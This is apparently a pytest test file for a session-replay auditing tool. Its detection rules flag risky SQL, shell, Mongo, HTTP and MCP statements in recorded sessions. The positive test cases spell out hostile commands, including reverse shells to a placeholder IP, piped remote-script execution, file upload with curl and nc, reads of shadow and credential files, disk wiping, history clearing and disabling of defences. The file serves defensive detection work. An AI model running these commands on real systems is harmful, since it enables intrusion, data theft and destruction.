"""Findings: positive and negative cases of each rule, recordings, hostile text, custom rules."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from replay_tui.analysis.session_analysis import analyse_session
from replay_tui.domain.errors import UsageError
from replay_tui.domain.finding import Finding, SequenceEvent
from replay_tui.domain.risk import Severity
from replay_tui.domain.session import Session
from replay_tui.domain.statement import Statement
from replay_tui.findings import findings
from replay_tui.findings.evidence_matching import matching_statements, quoted_words
from replay_tui.findings.rules import Rule, custom_rules, shipped_rules
from replay_tui.kinds import detect_kind
from replay_tui.terminal.sequence_filter import scan_sequences
from replay_tui.terminal.size_inference import infer_sizes
from tests.shell.test_commands import load
from tests.support import finding_cases
from tests.support.effort import sampled

SQL = Session.parse({"type": "database", "connection_subtype": "postgres"})
MONGO = Session.parse({"type": "database", "connection_subtype": "mongodb"})
MASKED = Session.parse(
    {"connection_subtype": "postgres", "metrics": {"data_masking": {"info_types": {"EMAIL_ADDRESS": 2}}}}
)


def find(*arguments: Any) -> list[Finding]:
    """Return the findings. Asserts that no rule failed."""
    result = findings.find_findings(*arguments)
    assert {one.code for one in result.warnings} <= {"text-cut"}
    return result.findings


CASES: list[tuple[str, str, list[str], list[str]]] = [
    (
        "sql-drop",
        "sql",
        ["drop table t", "DROP SCHEMA a CASCADE", "alter table t drop column c", "/* x */ drop view v"],
        [
            "select 'drop table t'",
            "-- drop table t\nselect 1",
            'select "drop table" from t',
            "alter table t alter c drop default",
            "drop role bob",
            "insert into log values ('drop table x')",
        ],
    ),
    ("sql-truncate", "sql", ["truncate t", "TRUNCATE TABLE a, b"], ["select truncate(1.5)", "select 'truncate t'"]),
    (
        "sql-delete-all",
        "sql",
        [
            "delete from t",
            "DELETE FROM t WHERE 1=1",
            "with a as (delete from t returning *) select * from a",
            "explain analyze delete from t",
            "delete from t where true",
        ],
        [
            "delete from t where id = 1",
            "select 'delete from t'",
            "grant delete on t to b",
            "delete from t where id in (select 1)",
            "create trigger x after delete on t execute function f()",
            "delete from t where 1=1 and id=2",
        ],
    ),
    (
        "sql-update-all",
        "sql",
        ["update t set a = 1", "UPDATE t SET a='where b=1'", "update t set a = (select 1 from b where c=1)"],
        [
            "update t set a = 1 where id = 2",
            "select * from t for update",
            "insert into t values (1) on conflict (id) do update set a=1",
            "create table t (a int references b on update cascade)",
            "grant update on t to b",
        ],
    ),
    (
        "sql-grant",
        "sql",
        [
            "grant all on t to bob",
            "revoke select on t from bob",
            "alter role bob superuser",
            "alter table t owner to bob",
        ],
        ["select 'grant'", "select has_grant from t", "alter table grants add a int"],
    ),
    (
        "sql-user",
        "sql",
        ["create user bob", "CREATE ROLE r", "drop user bob"],
        ["create table users (a int)", "drop table users", "create user mapping for bob server s"],
    ),
    (
        "sql-role-column",
        "sql",
        ["update users set role='admin' where id=42", "insert into users (name, is_admin) values ('a', true)"],
        [
            "update users set name='role' where id=1",
            "update users set a=1 where role = 'x'",
            "select role from users",
            "insert into users (name) values ('admin')",
        ],
    ),
    (
        "sql-server-program",
        "sql",
        [
            "copy t to program 'curl x'",
            "copy t from program 'id'",
            "select pg_read_file('/etc/passwd')",
            "exec xp_cmdshell 'dir'",
        ],
        ["copy t from stdin", "select 'pg_read_file'", "select program from t"],
    ),
    (
        "sql-copy-out",
        "sql",
        ["copy t to stdout", "copy (select * from t) to '/srv/x'"],
        ["copy t from stdin", "select 'copy t to stdout'"],
    ),
    (
        "sql-logging-off",
        "sql",
        ["set global general_log = 'OFF'", "set log_statement to 'none'", "SET sql_log_bin=0"],
        ["set log_statement to 'all'", "set statement_timeout = 0", "set row_security = off"],
    ),
    (
        "sensitive-columns",
        "masked",
        ["select email from users", "select u.contact_email from u"],
        ["select 'email'", "select id from users", "update users set email='x' where id=1"],
    ),
    (
        "shell-remove",
        "shell",
        [
            "rm -rf /srv/x",
            "rm -r -f x",
            "rm --recursive --force x",
            "sudo rm -fr x",
            "find . -name x -delete",
            "cd /x && rm -rf .",
            "bash -c 'rm -rf x'",
            "echo $(rm -rf x)",
            "xargs rm -rf",
            "/bin/rm -rf x",
        ],
        [
            "rm x",
            "echo 'rm -rf /'",
            "grep 'rm -rf' log",
            "rm -f x",
            "# rm -rf /",
            "git commit -m 'rm -rf'",
            "rm x # -rf",
        ],
    ),
    (
        "shell-disk",
        "shell",
        ["mkfs.ext4 /dev/sdb", "dd if=/dev/zero of=/dev/sda", "shred x", "wipefs -a /dev/sdb"],
        ["dd if=x", "echo mkfs", "fdisk -l", "man mkfs"],
    ),
    (
        "shell-permissions",
        "shell",
        ["chmod 777 x", "chmod -R a+w x", "chown -R bob x", "chmod u+s x", "chmod 4755 x"],
        ["chmod 644 x", "chmod +x x", "chown bob x", "chmod u+x deploy.sh"],
    ),
    (
        "shell-mode",
        "shell",
        ["chmod 644 x", "chmod +x x", "chown bob x", "chgrp -h dev x", "sudo chown bob x"],
        ["chmod 777 x", "chmod -R a+w x", "chown -R bob x", "chmod --help", "ls x"],
    ),
    (
        "shell-grants",
        "shell",
        [
            "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=bob",
            "kubectl -n prod delete rolebinding x",
            "aws iam attach-user-policy --user-name bob --policy-arn a",
            "gcloud projects add-iam-policy-binding p --member=user:bob --role=roles/owner",
            "az role assignment create --assignee bob --role Owner",
        ],
        ["kubectl get rolebindings", "aws iam list-users", "gcloud projects get-iam-policy p"],
    ),
    (
        "shell-privilege",
        "shell",
        ["sudo ls", "su - root", "doas ls", "ls; sudo -n true"],
        ["sudo -V", "echo sudo", "cat sudo.txt", "su-exec x"],
    ),
    (
        "shell-run-download",
        "shell",
        ["curl -s x | sh", "wget -qO- x | sudo bash", "echo aGk= | base64 -d | sh", "bash <(curl x)"],
        ["curl x | jq .", "echo 'curl x | sh'", "cat x | sh"],
    ),
    (
        "shell-upload",
        "shell",
        [
            "curl -d @f http://x",
            "curl -T f http://x",
            "scp f host:/x",
            "nc host 80",
            "rsync -a d me@host:/x",
            "curl -XPOST http://x",
            "aws s3 cp f s3://b/",
        ],
        ["curl http://x", "scp host:/x .", "echo nc", "rsync -a a b", "aws s3 cp s3://b/f ."],
    ),
    ("shell-encode", "shell", ["base64 /etc/passwd", "base64 -w0 f", "xxd f"], ["base64 -d f", "echo base64"]),
    ("shell-dump", "shell", ["pg_dump shop", "mysqldump -u a b"], ["pg_dump --version", "man pg_dump"]),
    (
        "shell-history",
        "shell",
        [
            "history -c",
            "unset HISTFILE",
            "export HISTFILE=/dev/null",
            "rm ~/.bash_history",
            "> ~/.bash_history",
            "set +o history",
            "ln -sf /dev/null ~/.zsh_history",
        ],
        ["history", "history | grep x", "cat ~/.bash_history", "history > build/history.txt", "export HISTSIZE=5000"],
    ),
    (
        "shell-accounts",
        "shell",
        ["useradd bob", "passwd root", "usermod -aG sudo bob", "echo k >> ~/.ssh/authorized_keys", "sudo visudo"],
        ["cat /etc/passwd", "grep bob /etc/group", "ls -l ~/.ssh/authorized_keys", "passwd -S bob"],
    ),
    (
        "shell-secret-files",
        "shell",
        ["cat /etc/shadow", "cp ~/.ssh/id_rsa x", "cat ~/.aws/credentials"],
        ["cat ~/.ssh/id_rsa.pub", "cat /etc/hosts", "man shadow"],
    ),
    (
        "shell-defences",
        "shell",
        ["iptables -F", "ufw disable", "setenforce 0", "systemctl stop auditd", "nft flush ruleset"],
        ["iptables -L -n", "ufw status", "getenforce", "systemctl status auditd", "iptables -nvL"],
    ),
    (
        "shell-services",
        "shell",
        ["systemctl stop nginx", "service nginx stop", "reboot", "docker rm -f x", "shutdown -h now"],
        ["systemctl status nginx", "service nginx status", "echo reboot", "docker ps", "shutdown -c"],
    ),
    ("shell-kill", "shell", ["kill -9 1", "pkill java", "killall -9 x"], ["kill 1", "echo kill -9 1"]),
    (
        "shell-persistence",
        "shell",
        ["crontab -e", "echo x >> ~/.bashrc", "systemctl enable x", "tee /etc/cron.d/x"],
        ["crontab -l", "cat ~/.bashrc", "systemctl is-enabled x"],
    ),
    (
        "shell-cluster",
        "shell",
        [
            "kubectl delete pod x",
            "kubectl -n a delete ns b",
            "terraform destroy",
            "git push --force",
            "aws ec2 terminate-instances --x",
            "docker system prune -f",
        ],
        ["kubectl get pods", "terraform plan", "git push", "aws ec2 describe-instances"],
    ),
    (
        "shell-reverse",
        "shell",
        ["bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "nc -e /bin/sh h 1", "socat tcp:h:1 exec:sh"],
        ["bash -i", "nc -z h 1"],
    ),
    ("http-delete", "http", ["DELETE /a"], ["GET /DELETE /a", "POST /delete"]),
    ("http-write", "http", ["PUT /a", "PATCH /a"], ["GET /a", "POST /PUT"]),
    (
        "mongo-drop",
        "mongo",
        ['{"drop": "t"}', '{"dropDatabase": 1}', "db.t.drop()"],
        ['{"find": "drop"}', "db.t.find({a: 'drop'})"],
    ),
    (
        "mongo-delete-all",
        "mongo",
        ['{"delete": "t", "deletes": [{"q": {}, "limit": 0}]}', "db.t.deleteMany({})"],
        [
            '{"delete": "t", "deletes": [{"q": {"a": 1}, "limit": 0}]}',
            '{"delete": "t", "deletes": [{"q": {}, "limit": 1}]}',
            "db.t.deleteMany({a: 1})",
        ],
    ),
    (
        "mongo-update-all",
        "mongo",
        ['{"update": "t", "updates": [{"q": {}, "u": {}, "multi": true}]}', "db.t.updateMany({}, {$set: {a: 1}})"],
        ['{"update": "t", "updates": [{"q": {"_id": 7}, "u": {}}]}', "db.t.updateMany({a: 1}, {})"],
    ),
    (
        "mongo-users",
        "mongo",
        ['{"createUser": "bob"}', '{"grantRolesToUser": "bob"}', "db.createUser({})"],
        ['{"find": "users"}', '{"usersInfo": 1}'],
    ),
    ("mcp-dangerous-tool", "mcp", ["delete_file {}", "run_command {}"], ["read_file {}", 'search {"q": "delete"}']),
]


def statement(where: str, text: str) -> tuple[Session, Statement]:
    if where in ("sql", "masked"):
        from replay_tui.decoders.sql.classify import classify

        kind, verb = classify(text)
        return (MASKED if where == "masked" else SQL), Statement(0.0, kind, text, verb=verb)
    if where == "mongo":
        from replay_tui.decoders.mongo import describe_command, read_command

        command = read_command(text)
        kind, verb, _ = describe_command(command) if command else ("script", "", {})
        return MONGO, Statement(0.0, kind, text, verb=verb)
    return Session.parse({}), Statement(0.0, where, text)


def names(where: str, text: str) -> list[str]:
    session, row = statement(where, text)
    return [one.rule for one in find(session, [row])]


@pytest.mark.parametrize(("rule", "where", "found", "left"), CASES, ids=[case[0] for case in CASES])
def test_rule_matches_only_its_cases(rule: str, where: str, found: list[str], left: list[str]) -> None:
    for text in found:
        assert rule in names(where, text), text
    for text in left:
        assert rule not in names(where, text), text


def test_shipped_rules_are_all_tested(tmp_path: Path) -> None:
    tested = {case[0] for case in CASES}
    in_code = {
        "typed-then-deleted",
        "pasted-block",
        "hidden-input",
        "clipboard-write",
        "file-transfer",
        "clipboard-read",
        "title-report",
        "title-change",
        "terminal-query",
        "notification",
        "guardrail-word",
        "guardrail-output",
        "ai-word",
        "displayed-key",
    }
    rules = shipped_rules()
    in_lists = {
        finding.rule
        for path in finding_cases.case_files()
        for hits in finding_cases.findings_of(path.name.split(".")[0], finding_cases.read_cases(path), tmp_path)
        for finding in hits
    }
    assert {rule.name for rule in rules} <= tested | in_code | in_lists
    assert len({rule.name for rule in rules}) == len(rules)
    assert all(rule.message.endswith(".") and (rule.pattern or rule.check) for rule in rules)


def test_find_typed_input_is_classified() -> None:
    rows = [
        Statement(1.0, "shell", "rm -rf /", deleted=True),
        Statement(2.0, "shell", "lss", deleted=True),
        Statement(3.0, "shell", "a\nb", details={"pasted": 3}),
        Statement(4.0, "shell", "ls", details={"pasted": 12}),
        Statement(5.0, "input", "(8 hidden characters)", details={"masked": True, "prompt": "Password:"}),
        Statement(6.0, "shell", "rm x", details={"revised": ("rm -rf x",)}),
    ]
    found = [(one.time, one.rule, one.severity) for one in find(Session.parse({}), rows)]
    assert found == [
        (1.0, "typed-then-deleted", Severity.MEDIUM),
        (2.0, "typed-then-deleted", Severity.LOW),
        (3.0, "pasted-block", Severity.LOW),
        (5.0, "hidden-input", Severity.LOW),
        (6.0, "typed-then-deleted", Severity.MEDIUM),
    ]


def test_find_sequences_are_counted_by_kind() -> None:
    kinds = [
        ("clipboard-write", "52;c;eA=="),
        ("clipboard-read", "52;c;?"),
        ("title", "0;a"),
        ("title", "0;b"),
        ("query", "21t"),
        ("query", "6n"),
        ("query", ">c"),
        ("notification", "9;x"),
        ("hyperlink", "8;;x"),
        ("prompt-mark", "133;A"),
    ]
    events = [SequenceEvent(at, float(at), kind, text) for at, (kind, text) in enumerate(kinds)]
    found = find(Session.parse({}), [], events)
    assert [one.rule for one in found] == [
        "clipboard-write",
        "clipboard-read",
        "title-change",
        "title-report",
        "terminal-query",
        "notification",
    ]
    assert "2 times" in found[2].message
    assert "2 times" in found[4].message
    assert found[4].severity is Severity.LOW


def findings_of(name: str) -> list[Finding]:
    session, stream = load(name)
    kind, _ = detect_kind(session, stream)
    reading = analyse_session(session, stream, kind, infer_sizes(stream) if kind.has_screen else None)
    return find(session, reading.statements, scan_sequences(stream) if kind.has_screen else ())


RECORDED = [
    ("sessions/exec-postgres-tsv.json", []),
    ("sessions/exec-bash-failed.json", []),
    ("sessions/mongo-connect.json", []),
    ("sessions/mysql-connect.json", ["sql-role-column", "ai-word"]),
    ("sessions/httpproxy-connect.json", ["http-delete"]),
    ("sessions/exec-guardrail-blocked.json", ["sql-drop", "guardrail-word", "ai-word"]),
    ("sessions/pg-psql.json", ["sensitive-columns", "ai-word", "sql-drop"]),
    ("sessions/pg-psycopg-extended.json", ["sql-copy-out"]),
    ("sessions/shell-vim.json", ["ai-word", "terminal-query", "typed-then-deleted", "shell-privilege", "shell-remove"]),
    ("sessions/shell-htop-120x36.json", []),
    ("postgres/pgbench.json.gz", []),
    ("postgres/psycopg-pipeline.json.gz", []),
    ("programs/top-watch.json.gz", []),
    ("programs/vim.json.gz", ["terminal-query"]),
    ("programs/tmux.json.gz", ["terminal-query"]),
]


@pytest.mark.parametrize(("name", "rules"), RECORDED, ids=[name for name, _ in RECORDED])
def test_find_in_recordings_matches(name: str, rules: list[str]) -> None:
    found = findings_of(name)
    assert [one.rule for one in found] == rules
    assert [one.time for one in found] == sorted(one.time for one in found)


def test_find_in_flagged_psql_session_is_high() -> None:
    found = {one.rule: one.severity for one in findings_of("postgres/psql-flagged.json.gz")}
    assert {"sql-delete-all", "sql-grant", "sql-role-column", "sensitive-columns"} <= set(found)
    assert found["sql-delete-all"] is Severity.HIGH


def test_find_hidden_input_is_in_no_finding() -> None:
    for name in ("shells/bash-edit.json.gz", "shells/dash.json.gz"):
        assert "hunter2" not in repr(findings_of(name))


def test_matching_statements_of_ai_text_are_found() -> None:
    rows = [
        Statement(0.0, "read", "select 1"),
        Statement(1.0, "dml", "delete from payments"),
        Statement(2.0, "shell", "vim deploy.sh"),
    ]
    assert quoted_words("The `payments` table and 'x y z'") == ["payments", "x y z"]
    assert matching_statements("Empties the `payments` table.", rows) == [(1, ("payments",))]
    assert matching_statements("Edits deploy.sh in place.", rows) == [(2, ("deploy.sh",))]
    assert matching_statements("A harmless report.", rows) == []
    assert matching_statements("", rows) == []


def test_find_custom_rules_apply() -> None:
    own = custom_rules(
        [
            {
                "name": "prod-host",
                "pattern": r"\bprod-\w+",
                "severity": "high",
                "sentence": "Names a production host.",
                "where": ["shell"],
            },
            {"name": "orders", "pattern": "orders", "target": ["sql"], "message": "Names orders."},
        ]
    )
    rows = [Statement(0.0, "shell", "ssh PROD-1"), Statement(1.0, "read", "select 'orders'")]
    assert [(one.rule, one.severity) for one in find(SQL, rows, (), own)] == [
        ("prod-host", Severity.HIGH),
        ("orders", Severity.MEDIUM),
    ]


@pytest.mark.parametrize(
    "row",
    [
        {},
        {"name": "a"},
        {"name": "a", "pattern": "("},
        {"name": "a", "pattern": "(a+)+"},
        {"name": "a", "pattern": "(a|b*)*c"},
        {"name": "a", "pattern": r"(a)\1"},
        {"name": "a", "pattern": "x" * 2000},
        {"name": "a", "pattern": "b", "severity": "worst"},
        {"name": "a", "pattern": "b", "where": ["moon"]},
        {"name": "a", "pattern": "((a+)b){20}"},
        {"name": "a", "pattern": 5},
        {"name": "a", "pattern": "(?P<x>a)(?P=x)"},
        {"name": "a", "pattern": "a", "where": 7},
    ],
)
def test_custom_rules_invalid_row_is_rejected(row: dict[str, Any]) -> None:
    with pytest.raises(UsageError, match=r"[A-Z].+\.$"):
        custom_rules([row])


def test_find_many_findings_are_limited_per_rule() -> None:
    found = find(SQL, [Statement(float(at), "ddl", "drop table t") for at in range(2000)])
    assert len(found) == 500
    assert "1500 more" in found[-1].message


def test_find_many_harmless_statements_has_no_findings() -> None:
    rows = [Statement(at / 10, "dml", f"update t set a = {at} where id = {at};", verb="UPDATE") for at in range(20_000)]
    rows += [Statement(at / 10, "read", f"select * from t where id = {at};", verb="SELECT") for at in range(10_000)]
    assert find(SQL, rows) == []


@sampled(
    "unit",
    [
        "curl ",
        "a|",
        "rm -",
        "sudo -u ",
        "'",
        "$(",
        "chmod ",
        "delete from ",
        "update t set ",
        "base64 x ",
        "-c ",
        "bash -c '",
    ],
    daily=4,
)
def test_find_hostile_text_takes_bounded_time(unit: str) -> None:
    text = unit * (100_000 // len(unit))
    for where in ("shell", "sql", "mongo", "http", "mcp"):
        names(where, text)


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="rm -f;|&$()'\"`{}<>\\\n#sudocl/=", max_size=120))
def test_find_random_text_does_not_fail(text: str) -> None:
    for where in ("shell", "sql", "mongo", "http", "mcp"):
        names(where, text)


class RaisingPattern:
    """A pattern whose search raises for some statements."""

    def search(self, text: str) -> None:
        if "bad" in text:
            raise ZeroDivisionError(text)


@pytest.mark.parametrize("kind", ["ddl", "shell", "http", "mcp"])
def test_find_rule_that_raises_is_named_in_warning(kind: str, caplog: pytest.LogCaptureFixture) -> None:
    """The other rules are still applied; the log contains one traceback, not one per statement."""
    places = ("sql", "shell", "http", "mcp")
    raising = Rule("raising", Severity.LOW, "Raises.", places, RaisingPattern(), custom=True)  # type: ignore[arg-type]
    other = custom_rules([{"name": "other", "pattern": "bad", "where": ["sql", "shell", "http"]}])
    rows = [Statement(float(at), kind, text) for at, text in enumerate(["bad 1", "good", "bad 2"])]
    result = findings.find_findings(SQL, rows, (), (raising, *other))
    assert [one.time for one in result.findings if one.rule == "other"] == ([] if kind == "mcp" else [0.0, 2.0])
    (warning,) = result.warnings
    assert (warning.code, warning.count) == ("findings-failed", 2)
    assert warning.message == "the findings are incomplete: the rule raising failed"
    assert caplog.text.count("Traceback") == 1
    assert "ZeroDivisionError" in caplog.text


def test_find_debug_mode_raises(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REPLAY_TUI_DEBUG", "1")
    raising = Rule("raising", Severity.LOW, "Raises.", ("sql",), RaisingPattern(), custom=True)  # type: ignore[arg-type]
    with pytest.raises(ZeroDivisionError):
        findings.find_findings(SQL, [Statement(0.0, "ddl", "bad")], (), (raising,))
